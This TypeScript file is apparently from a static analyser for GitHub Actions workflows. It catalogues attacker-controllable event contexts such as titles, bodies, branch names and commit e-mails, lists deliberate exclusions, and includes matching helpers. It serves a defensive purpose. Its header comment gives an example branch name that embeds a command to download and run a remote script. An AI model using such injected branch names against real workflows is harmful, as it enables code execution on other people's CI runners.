/**
 * Expression contexts whose value an attacker can choose, for expression-injection analysis.
 *
 * Sources, combined and cross-checked:
 * - GitHub Docs, "Script injections" / security hardening guide (lists title, body, head_ref,
 *   commit messages, author emails, labels of the head, page names...).
 * - GitHub Security Lab, "Keeping your GitHub Actions and workflows secure Part 2: Untrusted input".
 * - CodeQL for Actions, `actions/ql/lib/ext/config/untrusted_event_properties.yml` and
 *   `context_event_map.yml` (which event populates which object).
 * - GitHub webhook payload reference (which fields exist for which event).
 *
 * Pattern syntax: lower case dotted path, `*` stands for one segment (an array index or a key).
 * Callers normalise `github.event.commits[0].message` to `github.event.commits.*.message`
 * (`normalizeContextPath` does this); GitHub property names are case-insensitive.
 *
 * `capability`:
 * - `free-text`: any characters (spaces, quotes, newlines, `$(...)`): trivially injectable.
 * - `restricted`: a limited character set that is still injectable. Git ref names forbid spaces,
 *   `~ ^ : ? * [ \` and `..`, but allow `$ ( ) { } ; | & < > ' " \``, so a branch called
 *   `a$(curl${IFS}-sL${IFS}x.sh|sh)` is valid. Git commit e-mails are not validated by Git or by
 *   GitHub (only `<`, `>` and newlines are impossible).
 *
 * `triggers`: events whose payload carries the value under attacker control; omitted = any.
 * Reusable workflows (`workflow_call`) see the caller's payload, so `matchUntrustedContext`
 * ignores trigger lists for `workflow_call`.
 *
 * Everything not listed is treated as safe. Deliberate exclusions, with the reason for each,
 * are in `EXCLUDED_CONTEXTS` below so the decision is data, not folklore.
 */

export type ContextCapability = 'free-text' | 'restricted';

export type ContextCategory = 'title' | 'body' | 'branch' | 'label' | 'email' | 'name' | 'path' | 'url' | 'input' | 'payload';

export interface UntrustedContext {
  pattern: string;
  capability: ContextCapability;
  category: ContextCategory;
  triggers?: readonly string[];
  note?: string;
  source: string;
}

export interface ExcludedContext {
  pattern: string;
  reason: string;
  source: string;
}

const DOCS_INJECTION = 'https://docs.github.com/en/actions/concepts/security/script-injections#understanding-the-risk-of-script-injections';
const GHSL_UNTRUSTED = 'https://securitylab.github.com/resources/github-actions-untrusted-input/';
const CODEQL_UNTRUSTED = 'https://github.com/github/codeql/blob/main/actions/ql/lib/ext/config/untrusted_event_properties.yml';
const WEBHOOKS = 'https://docs.github.com/en/webhooks/webhook-events-and-payloads';
const CONTEXTS_DOC = 'https://docs.github.com/en/actions/reference/workflows-and-actions/contexts';
const GIT_REF_FORMAT = 'https://git-scm.com/docs/git-check-ref-format';

const PR_EVENTS = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'] as const;
const ISSUE_EVENTS = ['issues', 'issue_comment'] as const;
const DISCUSSION_EVENTS = ['discussion', 'discussion_comment'] as const;

const BRANCH_NOTE = 'Git ref name: no spaces, but `$()`, backticks, `;`, `|`, `&` and `${IFS}` payloads are valid.';
const EMAIL_NOTE = 'Commit e-mail: neither Git nor GitHub validates it; only `<`, `>` and newlines are impossible.';
const PUSH_NOTE = "Push needs write access, but commits merged from fork pull requests carry the fork author's text.";
const WORKFLOW_RUN_NOTE = 'Comes from the triggering run, which may have been a fork pull request.';

function commitFields(prefix: string, triggers: readonly string[], note: string | undefined, source: string): UntrustedContext[] {
  const extra = note === undefined ? {} : { note };
  return [
    { pattern: `${prefix}.message`, capability: 'free-text', category: 'body', triggers, ...extra, source },
    { pattern: `${prefix}.author.name`, capability: 'free-text', category: 'name', triggers, ...extra, source },
    { pattern: `${prefix}.committer.name`, capability: 'free-text', category: 'name', triggers, ...extra, source },
    {
      pattern: `${prefix}.author.email`,
      capability: 'restricted',
      category: 'email',
      triggers,
      note: note === undefined ? EMAIL_NOTE : `${EMAIL_NOTE} ${note}`,
      source,
    },
    {
      pattern: `${prefix}.committer.email`,
      capability: 'restricted',
      category: 'email',
      triggers,
      note: note === undefined ? EMAIL_NOTE : `${EMAIL_NOTE} ${note}`,
      source,
    },
  ];
}

function changedPaths(prefix: string, triggers: readonly string[], source: string): UntrustedContext[] {
  return ['added', 'modified', 'removed'].map((list) => ({
    pattern: `${prefix}.${list}.*`,
    capability: 'free-text' as const,
    category: 'path' as const,
    triggers,
    note: `File path from the commit; Git paths may contain spaces and shell metacharacters. ${PUSH_NOTE}`,
    source,
  }));
}

export const UNTRUSTED_CONTEXTS: readonly UntrustedContext[] = [
  // Issues and issue comments (anyone who can open an issue or comment on a public repository).
  { pattern: 'github.event.issue.title', capability: 'free-text', category: 'title', triggers: ISSUE_EVENTS, source: DOCS_INJECTION },
  { pattern: 'github.event.issue.body', capability: 'free-text', category: 'body', triggers: ISSUE_EVENTS, source: DOCS_INJECTION },
  {
    pattern: 'github.event.comment.body',
    capability: 'free-text',
    category: 'body',
    triggers: ['issue_comment', 'pull_request_review_comment', 'discussion_comment'],
    source: DOCS_INJECTION,
  },
  // Pull requests.
  { pattern: 'github.event.pull_request.title', capability: 'free-text', category: 'title', triggers: PR_EVENTS, source: DOCS_INJECTION },
  { pattern: 'github.event.pull_request.body', capability: 'free-text', category: 'body', triggers: PR_EVENTS, source: DOCS_INJECTION },
  {
    pattern: 'github.event.pull_request.head.ref',
    capability: 'restricted',
    category: 'branch',
    triggers: PR_EVENTS,
    note: BRANCH_NOTE,
    source: GIT_REF_FORMAT,
  },
  {
    pattern: 'github.event.pull_request.head.label',
    capability: 'restricted',
    category: 'label',
    triggers: PR_EVENTS,
    note: '`owner:branch` of the head; the branch part follows Git ref rules.',
    source: DOCS_INJECTION,
  },
  {
    pattern: 'github.event.pull_request.head.repo.description',
    capability: 'free-text',
    category: 'body',
    triggers: PR_EVENTS,
    note: 'Description of the fork, set by its owner.',
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.pull_request.head.repo.homepage',
    capability: 'restricted',
    category: 'url',
    triggers: PR_EVENTS,
    note: 'Website field of the fork, set by its owner.',
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.pull_request.head.repo.default_branch',
    capability: 'restricted',
    category: 'branch',
    triggers: PR_EVENTS,
    note: `Default branch of the fork. ${BRANCH_NOTE}`,
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.head_ref',
    capability: 'restricted',
    category: 'branch',
    triggers: PR_EVENTS,
    note: `Only set for pull request events. ${BRANCH_NOTE}`,
    source: CONTEXTS_DOC,
  },
  {
    pattern: 'github.event.review.body',
    capability: 'free-text',
    category: 'body',
    triggers: ['pull_request_review'],
    source: GHSL_UNTRUSTED,
  },
  // Edits: the previous value of an edited field.
  {
    pattern: 'github.event.changes.title.from',
    capability: 'free-text',
    category: 'title',
    triggers: ['issues', ...PR_EVENTS, 'discussion'],
    note: 'Previous title on `edited` activity.',
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.changes.body.from',
    capability: 'free-text',
    category: 'body',
    triggers: [...ISSUE_EVENTS, ...PR_EVENTS, ...DISCUSSION_EVENTS],
    note: 'Previous body on `edited` activity.',
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.changes.head.ref.from',
    capability: 'restricted',
    category: 'branch',
    triggers: ['pull_request', 'pull_request_target'],
    note: BRANCH_NOTE,
    source: CODEQL_UNTRUSTED,
  },
  // Discussions (anyone who can start a discussion or comment).
  {
    pattern: 'github.event.discussion.title',
    capability: 'free-text',
    category: 'title',
    triggers: DISCUSSION_EVENTS,
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.discussion.body',
    capability: 'free-text',
    category: 'body',
    triggers: DISCUSSION_EVENTS,
    source: CODEQL_UNTRUSTED,
  },
  // Wiki (gollum): editable by any signed-in user unless restricted to collaborators.
  {
    pattern: 'github.event.pages.*.page_name',
    capability: 'free-text',
    category: 'title',
    triggers: ['gollum'],
    source: DOCS_INJECTION,
  },
  { pattern: 'github.event.pages.*.title', capability: 'free-text', category: 'title', triggers: ['gollum'], source: CODEQL_UNTRUSTED },
  // Push: commits, including those merged from forks.
  ...commitFields('github.event.commits.*', ['push'], PUSH_NOTE, DOCS_INJECTION),
  ...commitFields('github.event.head_commit', ['push'], PUSH_NOTE, DOCS_INJECTION),
  ...changedPaths('github.event.commits.*', ['push'], `${WEBHOOKS}#push`),
  ...changedPaths('github.event.head_commit', ['push'], `${WEBHOOKS}#push`),
  // workflow_run: data of the triggering run.
  {
    pattern: 'github.event.workflow_run.head_branch',
    capability: 'restricted',
    category: 'branch',
    triggers: ['workflow_run'],
    note: `${WORKFLOW_RUN_NOTE} ${BRANCH_NOTE}`,
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.workflow_run.display_title',
    capability: 'free-text',
    category: 'title',
    triggers: ['workflow_run'],
    note: `${WORKFLOW_RUN_NOTE} Pull request title, commit message or the triggering workflow's run-name.`,
    source: CODEQL_UNTRUSTED,
  },
  ...commitFields('github.event.workflow_run.head_commit', ['workflow_run'], WORKFLOW_RUN_NOTE, CODEQL_UNTRUSTED),
  {
    pattern: 'github.event.workflow_run.head_repository.description',
    capability: 'free-text',
    category: 'body',
    triggers: ['workflow_run'],
    note: WORKFLOW_RUN_NOTE,
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.workflow_run.head_repository.default_branch',
    capability: 'restricted',
    category: 'branch',
    triggers: ['workflow_run'],
    note: `${WORKFLOW_RUN_NOTE} ${BRANCH_NOTE}`,
    source: `${WEBHOOKS}#workflow_run`,
  },
  {
    pattern: 'github.event.workflow_run.pull_requests.*.head.ref',
    capability: 'restricted',
    category: 'branch',
    triggers: ['workflow_run'],
    note: `Empty for fork pull requests. ${BRANCH_NOTE}`,
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.workflow_run.path',
    capability: 'free-text',
    category: 'path',
    triggers: ['workflow_run'],
    note: `${WORKFLOW_RUN_NOTE} A pull request can add a workflow file with any name.`,
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.workflow.path',
    capability: 'free-text',
    category: 'path',
    triggers: ['workflow_run'],
    note: `${WORKFLOW_RUN_NOTE} A pull request can add a workflow file with any name.`,
    source: CODEQL_UNTRUSTED,
  },
  {
    pattern: 'github.event.workflow_run.referenced_workflows.*.path',
    capability: 'free-text',
    category: 'path',
    triggers: ['workflow_run'],
    note: WORKFLOW_RUN_NOTE,
    source: CODEQL_UNTRUSTED,
  },
  // Merge queue: the merge commit message embeds the pull request's title and branch.
  ...commitFields(
    'github.event.merge_group.head_commit',
    ['merge_group'],
    'Merge queue commit built from a pull request.',
    `${WEBHOOKS}#merge_group`,
  ),
  // Check suites / runs and commit statuses created by apps for fork pull request commits.
  {
    pattern: 'github.event.check_suite.head_branch',
    capability: 'restricted',
    category: 'branch',
    triggers: ['check_suite'],
    note: BRANCH_NOTE,
    source: `${WEBHOOKS}#check_suite`,
  },
  {
    pattern: 'github.event.check_run.check_suite.head_branch',
    capability: 'restricted',
    category: 'branch',
    triggers: ['check_run'],
    note: BRANCH_NOTE,
    source: `${WEBHOOKS}#check_run`,
  },
  {
    pattern: 'github.event.check_suite.pull_requests.*.head.ref',
    capability: 'restricted',
    category: 'branch',
    triggers: ['check_suite'],
    note: BRANCH_NOTE,
    source: `${WEBHOOKS}#check_suite`,
  },
  {
    pattern: 'github.event.check_run.pull_requests.*.head.ref',
    capability: 'restricted',
    category: 'branch',
    triggers: ['check_run'],
    note: BRANCH_NOTE,
    source: `${WEBHOOKS}#check_run`,
  },
  ...commitFields('github.event.check_suite.head_commit', ['check_suite'], undefined, `${WEBHOOKS}#check_suite`),
  ...commitFields(
    'github.event.commit.commit',
    ['status'],
    'Commit a status was posted for; may be a fork pull request commit.',
    `${WEBHOOKS}#status`,
  ),
  // Inputs and dispatch payloads: controlled by whoever may trigger the event.
  {
    pattern: 'github.event.inputs.*',
    capability: 'free-text',
    category: 'input',
    triggers: ['workflow_dispatch'],
    note: 'Chosen by whoever can dispatch the workflow: repository writers (trust T2), not outsiders.',
    source: `${CONTEXTS_DOC}#inputs-context`,
  },
  {
    pattern: 'inputs.*',
    capability: 'free-text',
    category: 'input',
    triggers: ['workflow_dispatch', 'workflow_call'],
    note: 'workflow_dispatch: chosen by writers (T2). workflow_call: chosen by the caller, which may pass untrusted event data.',
    source: `${CONTEXTS_DOC}#inputs-context`,
  },
  {
    pattern: 'github.event.client_payload.*',
    capability: 'free-text',
    category: 'payload',
    triggers: ['repository_dispatch'],
    note: 'Any JSON chosen by holders of a token that can call the dispatches API (repository write access).',
    source: `${WEBHOOKS}#repository_dispatch`,
  },
];

export const EXCLUDED_CONTEXTS: readonly ExcludedContext[] = [
  {
    pattern: 'github.actor',
    reason: 'GitHub logins are [A-Za-z0-9-] (no leading hyphen, max 39): no shell metacharacters.',
    source: 'https://docs.github.com/en/get-started/start-your-journey/creating-an-account-on-github',
  },
  { pattern: 'github.triggering_actor', reason: 'A GitHub login; see github.actor.', source: CONTEXTS_DOC },
  { pattern: 'github.event.*.user.login', reason: 'A GitHub login; see github.actor.', source: WEBHOOKS },
  { pattern: 'github.event.sender.login', reason: 'A GitHub login; see github.actor.', source: WEBHOOKS },
  {
    pattern: 'github.event.commits.*.author.username',
    reason: 'GitHub login matched to the commit e-mail; see github.actor.',
    source: `${WEBHOOKS}#push`,
  },
  {
    pattern: 'github.event.pull_request.labels.*.name',
    reason: 'Labels are created and applied by users with triage access or more; outsiders cannot choose label names.',
    source: 'https://docs.github.com/en/issues/using-labels-and-milestones-to-track-work/managing-labels',
  },
  { pattern: 'github.event.issue.labels.*.name', reason: 'See pull_request.labels: created by triage+ users.', source: WEBHOOKS },
  { pattern: 'github.event.label.name', reason: 'See pull_request.labels: created by triage+ users.', source: WEBHOOKS },
  {
    pattern: 'github.event.pull_request.milestone.title',
    reason: 'Milestones are created by users with write access (triage can only assign them).',
    source: 'https://docs.github.com/en/issues/using-labels-and-milestones-to-track-work/about-milestones',
  },
  { pattern: 'github.event.issue.milestone.title', reason: 'See pull_request.milestone.title.', source: WEBHOOKS },
  {
    pattern: 'github.base_ref',
    reason: 'Base branch of a pull request: a branch of the base repository, named by its writers.',
    source: CONTEXTS_DOC,
  },
  {
    pattern: 'github.ref_name',
    reason: 'refs/pull/<n>/merge for pull requests; otherwise a ref pushed by a writer (T2) or the default branch.',
    source: CONTEXTS_DOC,
  },
  { pattern: 'github.ref', reason: 'See github.ref_name.', source: CONTEXTS_DOC },
  {
    pattern: 'github.event.pull_request.head.sha',
    reason: 'Hexadecimal. Untrusted as a checkout target (see untrusted-checkout), not as injected text.',
    source: `${WEBHOOKS}#pull_request`,
  },
  {
    pattern: 'github.event.pull_request.head.repo.full_name',
    reason: 'owner/repo names use [A-Za-z0-9._-]. Untrusted as a checkout repository, not as injected text.',
    source: `${WEBHOOKS}#pull_request`,
  },
  { pattern: 'github.event.pull_request.number', reason: 'Numeric.', source: `${WEBHOOKS}#pull_request` },
  {
    pattern: 'github.event.merge_group.head_ref',
    reason: 'Generated by GitHub as gh-readonly-queue/<base branch>/pr-<number>-<sha>; the base branch is writer-named.',
    source: `${WEBHOOKS}#merge_group`,
  },
  {
    pattern: 'github.event.release.*',
    reason: 'Releases are created by users with write access.',
    source: `${WEBHOOKS}#release`,
  },
  {
    pattern: 'github.event.deployment.payload.*',
    reason: 'Deployments are created by users or apps with deployments write access.',
    source: `${WEBHOOKS}#deployment`,
  },
  {
    pattern: 'github.event.forkee.description',
    reason: "At fork time the fork still carries the parent repository's description.",
    source: `${WEBHOOKS}#fork`,
  },
  {
    pattern: 'github.event.branches.*.name',
    reason: 'Branches of the base repository containing the commit: writer-named.',
    source: `${WEBHOOKS}#status`,
  },
];

/**
 * Normalises an expression path: lower case, no spaces, `a[0]` / `a[*]` / `a[expr]` -> `a.*`,
 * `a['key']` / `a["key"]` -> `a.key`, and a surrounding `toJSON(...)` removed.
 */
export function normalizeContextPath(expression: string): string {
  let path = expression.trim();
  for (;;) {
    const unwrapped = /^tojson\s*\((.*)\)$/is.exec(path);
    if (!unwrapped || unwrapped[1] === undefined) break;
    path = unwrapped[1].trim();
  }
  path = path.replace(/\[\s*(['"])(.*?)\1\s*\]/g, (_m, _q: string, key: string) => `.${key}`);
  path = path.replace(/\[[^\]]*\]/g, '.*');
  return path.replace(/\s+/g, '').toLowerCase();
}

function segmentsMatch(a: readonly string[], b: readonly string[]): boolean {
  if (a.length !== b.length) return false;
  return a.every((seg, i) => seg === '*' || b[i] === '*' || seg === b[i]);
}

function prefixOf(path: readonly string[], pattern: readonly string[]): boolean {
  if (path.length >= pattern.length) return false;
  return path.every((seg, i) => seg === '*' || pattern[i] === '*' || seg === pattern[i]);
}

function appliesTo(entry: UntrustedContext, event: string | undefined): boolean {
  if (event === undefined || event === 'workflow_call' || entry.triggers === undefined) return true;
  return entry.triggers.includes(event);
}

function split(path: string): string[] {
  return normalizeContextPath(path).split('.');
}

export interface UntrustedContextMatch {
  /**
   * The table entry; for objects and `*` filters spanning several entries, a synthetic entry
   * (pattern = the normalised path) whose `triggers` is the union.
   */
  entry: UntrustedContext;
  capability: ContextCapability;
  /** True when the path is an object containing untrusted fields (e.g. `toJSON(github.event)`). */
  viaPrefix: boolean;
  /** Union of the events under which the matched entries are untrusted; undefined = any event. */
  triggers: readonly string[] | undefined;
}

function summarise(path: string, entries: UntrustedContext[], viaPrefix: boolean): UntrustedContextMatch | undefined {
  const first = entries.find((e) => e.capability === 'free-text') ?? entries[0];
  if (first === undefined) return undefined;
  const capability: ContextCapability = viaPrefix || entries.some((e) => e.capability === 'free-text') ? 'free-text' : 'restricted';
  let triggers: string[] | undefined = [];
  for (const e of entries) {
    if (e.triggers === undefined) {
      triggers = undefined;
      break;
    }
    for (const t of e.triggers) if (!triggers.includes(t)) triggers.push(t);
  }
  if (entries.length === 1 && !viaPrefix) return { entry: first, capability, viaPrefix, triggers };
  // Several fields at once (an object, or a `*` filter): describe them as one synthetic entry whose
  // triggers are the union, so callers reading `entry.triggers` see every event that applies.
  const entry: UntrustedContext = {
    pattern: normalizeContextPath(path),
    capability,
    category: viaPrefix ? 'payload' : first.category,
    ...(triggers === undefined ? {} : { triggers }),
    note: `${viaPrefix ? 'Object containing' : 'Filter over'} ${entries.length} untrusted field(s), e.g. ${first.pattern}.`,
    source: first.source,
  };
  return { entry, capability, viaPrefix, triggers };
}

/**
 * The untrusted entry a context path refers to, if any. `*` works on both sides, so
 * `github.event.*.body` (an object filter) matches `github.event.issue.body` and friends. A path
 * naming an object that contains untrusted fields matches as free-text with `viaPrefix`. With
 * `event`, only entries untrusted under that event count (`workflow_call` counts all).
 */
export function matchUntrustedContext(path: string, event?: string): UntrustedContextMatch | undefined {
  // Lookups repeat across thousands of files: answer each (path, event) once.
  const key = `${event ?? ''}\u0000${path}`;
  if (MATCH_CACHE.has(key)) return MATCH_CACHE.get(key);
  const segs = split(path);
  const candidates = PATTERN_SEGMENTS.filter(([e]) => appliesTo(e, event));
  const direct = candidates.filter(([, p]) => segmentsMatch(p, segs)).map(([e]) => e);
  const result =
    direct.length > 0
      ? summarise(path, direct, false)
      : summarise(
          path,
          candidates.filter(([, p]) => prefixOf(segs, p)).map(([e]) => e),
          true,
        );
  if (MATCH_CACHE.size > 50_000) MATCH_CACHE.clear();
  MATCH_CACHE.set(key, result);
  return result;
}

const PATTERN_SEGMENTS: readonly (readonly [UntrustedContext, readonly string[]])[] = UNTRUSTED_CONTEXTS.map(
  (e) => [e, e.pattern.split('.')] as const,
);
const MATCH_CACHE = new Map<string, UntrustedContextMatch | undefined>();
const PREFIX_CACHE = new Map<string, boolean>();

/** True when `path` is an object (e.g. `github.event.pull_request`) whose serialisation includes untrusted fields. */
export function isUntrustedObjectPrefix(path: string, event?: string): boolean {
  const key = `${event ?? ''}\u0000${path}`;
  const cached = PREFIX_CACHE.get(key);
  if (cached !== undefined) return cached;
  const segs = split(path);
  const result = PATTERN_SEGMENTS.some(([e, p]) => appliesTo(e, event) && prefixOf(segs, p));
  if (PREFIX_CACHE.size > 50_000) PREFIX_CACHE.clear();
  PREFIX_CACHE.set(key, result);
  return result;
}

/** The recorded reason a context is deliberately treated as safe, if it is listed. */
export function excludedContextReason(path: string): ExcludedContext | undefined {
  const segs = split(path);
  return EXCLUDED_CONTEXTS.find((e) => segmentsMatch(e.pattern.split('.'), segs));
}
